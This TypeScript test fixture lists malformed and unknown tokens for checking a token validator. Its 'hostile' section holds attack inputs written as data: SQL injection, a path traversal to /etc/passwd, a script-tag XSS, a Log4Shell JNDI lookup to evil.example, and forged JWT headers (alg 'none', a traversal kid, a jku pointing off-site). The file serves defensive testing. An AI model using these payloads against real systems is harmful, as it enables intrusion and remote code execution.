const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const claims = part({ sub: 'somebody', exp: 9_999_999_999 });

/** What can never have been a token of ours: not 43 symbols of base64url. */
export const malformedTokens: readonly string[] = [
  // no token at all
  'x',
  'null',
  'undefined',
  'NaN',
  'true',
  'Bearer',
  '[object Object]',
  '{}',
  '0',
  '-',
  '.',
  '..',
  '...',
  // tokens of other systems
  `${part({ alg: 'none' })}.${claims}.`,
  `${part({ alg: 'HS256' })}.${claims}.${'A'.repeat(43)}`,
  `${part({ alg: 'RS256', kid: '../../dev/null' })}.${claims}.x`,
  `${part({ alg: 'HS256', jku: 'https://evil.example' })}.${claims}.x`,
  `v2.local.${'A'.repeat(60)}`,
  'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB',
  'sk-0123456789',
  // nearly one of ours
  'A'.repeat(42),
  'A'.repeat(44),
  `${'A'.repeat(42)}=`,
  `${'A'.repeat(43)}=`,
  `${'A'.repeat(42)}+`,
  `${'A'.repeat(42)}/`,
  `${'A'.repeat(42)}.`,
  `${'A'.repeat(21)} ${'A'.repeat(21)}`,
  `${'A'.repeat(42)}%`,
  `"${'A'.repeat(43)}"`,
  `${'A'.repeat(43)},${'A'.repeat(43)}`,
  `${'A'.repeat(43)};`,
  // hostile
  `' or '1'='1`,
  `${'A'.repeat(42)}'`,
  '../../etc/passwd',
  '<script>alert(1)</script>',
  `\${jndi:ldap://evil.example/a}`,
  '%00',
  '\u00ff'.repeat(43),
  '\u00e4\u00f6',
  'A'.repeat(4000),
  'A.'.repeat(2000),
];

/** Right in shape and never issued, or issued to nobody here. */
export const unknownTokens: readonly string[] = [
  'A'.repeat(43),
  '_'.repeat(43),
  '-'.repeat(43),
  '0'.repeat(43),
  'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ',
  '0123456789_-0123456789_-0123456789_-0123456',
];
